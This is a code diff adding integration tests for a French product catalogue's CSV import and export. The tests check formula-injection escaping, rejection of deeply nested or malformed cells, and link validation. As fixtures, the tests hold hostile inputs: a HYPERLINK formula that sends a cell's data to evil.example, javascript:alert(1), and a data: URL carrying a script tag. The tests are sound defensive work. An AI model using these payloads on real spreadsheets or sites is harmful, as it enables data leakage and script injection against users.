@@ -372,6 +372,102 @@ describe('Back office for a working day', () => {
       expect(body).toMatchObject({ total: 4, unchanged: 4, errors: 0 });
     });
 
+    it('the export writes a cell a spreadsheet would run as a formula behind an apostrophe, which the import takes off again', async () => {
+      const reference = `${tag}-FORMULA`;
+      const hostile = {
+        name: '=HYPERLINK("https://evil.example/?d="&A1,"Fiche")',
+        brand: '@Marque',
+        battery_type: '-LFP',
+        storage_capacity: '+5kWh',
+        // A text that starts with an apostrophe keeps it, even before a formula sign.
+        max_output_power: "'=2000W",
+      };
+      await http
+        .post('/api/admin/products')
+        .set('Authorization', `Bearer ${admin}`)
+        .send({ reference, type: 'BMS', price_public: 10, stock_quantity: 1, description: "'Cité' en tête", ...hostile })
+        .expect(201);
+      const filter = encodeURIComponent(JSON.stringify({ q: reference }));
+      const text: string = (await get(`/api/admin/products/export?filter=${filter}`).expect(200)).text;
+      const [header, line] = text.replace(/^\ufeff/, '').split('\r\n');
+      const cells = Object.fromEntries(header.split(';').map((name, i) => [name, line.split(';')[i]]));
+      expect(cells).toMatchObject({
+        name: `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Fiche"")"`,
+        brand: "'@Marque",
+        battery_type: "'-LFP",
+        storage_capacity: "'+5kWh",
+        max_output_power: "''=2000W",
+        description: "''Cité' en tête",
+        price_public: '10',
+      });
+      // Read back exactly: the row is unchanged, and as a new product it would carry the same texts.
+      const again = await upload(Buffer.from(text, 'utf8'), 'produits.csv', true).expect(200);
+      expect(again.body).toMatchObject({ total: 1, unchanged: 1, errors: 0 });
+      const asNew = await upload(Buffer.from(text.replace(reference, `${reference}-COPY`), 'utf8'), 'produits.csv', true).expect(200);
+      expect(asNew.body.rows[0].action).toBe('create');
+      expect(asNew.body.rows[0].changes).toEqual(
+        expect.arrayContaining(Object.entries(hostile).map(([field, after]) => ({ field, before: null, after }))),
+      );
+    });
+
+    it('a cell too deep, with a NUL or a lone surrogate is a row error naming its column, in a dry run and a real one', async () => {
+      const deep = '['.repeat(5000) + ']'.repeat(5000);
+      const file = Buffer.from(
+        [
+          'reference;name;brand;type;price_public;specifications;documentation',
+          `${tag}-DEEP-1;Profond;Test;BMS;10;${deep};`,
+          `${tag}-DEEP-2;Profond;Test;BMS;10;;${deep}`,
+          `${tag}-NUL;Nul;Test;BMS;10;"{""Tension"":""48\\u0000V""}";`,
+          `${tag}-UTF;Surrogate;Test;BMS;10;"{""\\ud800"":""x""}";`,
+          `${tag}-NUL-DOC;Nul;Test;BMS;10;;"[{""name"":""Fiche"",""url"":""/uploads/x.pdf"",""fileName"":""x\\u0000.pdf""}]"`,
+        ].join('\r\n'),
+        'utf8',
+      );
+      const dry = await upload(file, 'profond.csv', true).expect(200);
+      expect(dry.body).toMatchObject({ total: 5, errors: 5 });
+      expect(dry.body.rows.map((r: { errors: unknown }) => r.errors)).toEqual([
+        [{ column: 'specifications', message: 'imbrication trop profonde (32 niveaux au plus)' }],
+        [{ column: 'documentation', message: 'imbrication trop profonde (32 niveaux au plus)' }],
+        [{ column: 'specifications', message: 'caractère nul interdit' }],
+        [{ column: 'specifications', message: 'texte Unicode invalide (caractère isolé ou mal encodé)' }],
+        [{ column: 'documentation', message: 'caractère nul interdit' }],
+      ]);
+      const real = await upload(file, 'profond.csv').expect(400);
+      expect(real.body.fields).toEqual({
+        'ligne 2.specifications': 'imbrication trop profonde (32 niveaux au plus)',
+        'ligne 3.documentation': 'imbrication trop profonde (32 niveaux au plus)',
+        'ligne 4.specifications': 'caractère nul interdit',
+        'ligne 5.specifications': 'texte Unicode invalide (caractère isolé ou mal encodé)',
+        'ligne 6.documentation': 'caractère nul interdit',
+      });
+      // Alone on a real run too (no other row's error to stop it first): a row error, never a 500.
+      const nul = Buffer.from(
+        ['reference;name;brand;type;price_public;specifications', `${tag}-NUL;Nul;Test;BMS;10;"{""Tension"":""48\\u0000V""}"`].join('\r\n'),
+      );
+      const alone = await upload(nul, 'nul.csv').expect(400);
+      expect(alone.body.fields).toEqual({ 'ligne 2.specifications': 'caractère nul interdit' });
+      expect(await db.query(`SELECT id FROM products WHERE reference LIKE $1`, [`${tag}-DEEP%`])).toEqual([]);
+    });
+
+    it('a link in a cell is checked like the form: javascript:, data: and //host are row errors', async () => {
+      const file = Buffer.from(
+        [
+          'reference;name;brand;type;price_public;image_url;image_card_url;documentation',
+          `${tag}-URL-1;Lien;Test;BMS;10;javascript:alert(1);;`,
+          `${tag}-URL-2;Lien;Test;BMS;10;;//evil.example/x.png;`,
+          `${tag}-URL-3;Lien;Test;BMS;10;;;"[{""name"":""Fiche"",""url"":""data:text/html,<script>alert(1)</script>"",""fileName"":""x.pdf""}]"`,
+          `${tag}-URL-4;Lien;Test;BMS;10;/uploads/x.png;https://cdn.example/x.png;"[{""name"":""Fiche"",""url"":""/uploads/x.pdf"",""fileName"":""x.pdf""}]"`,
+        ].join('\r\n'),
+      );
+      const { body } = await upload(file, 'liens.csv', true).expect(200);
+      expect(body.rows.map((r: { errors: { column: string }[] }) => r.errors.map((e) => e.column))).toEqual([
+        ['image_url'],
+        ['image_card_url'],
+        ['documentation.0.url'],
+        [],
+      ]);
+    });
+
     it('refuses another file type (415), a missing file (400) and a file over the size cap (413), in French', async () => {
       const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]);
       const excel = await upload(xlsx, 'prix.xlsx').expect(415);
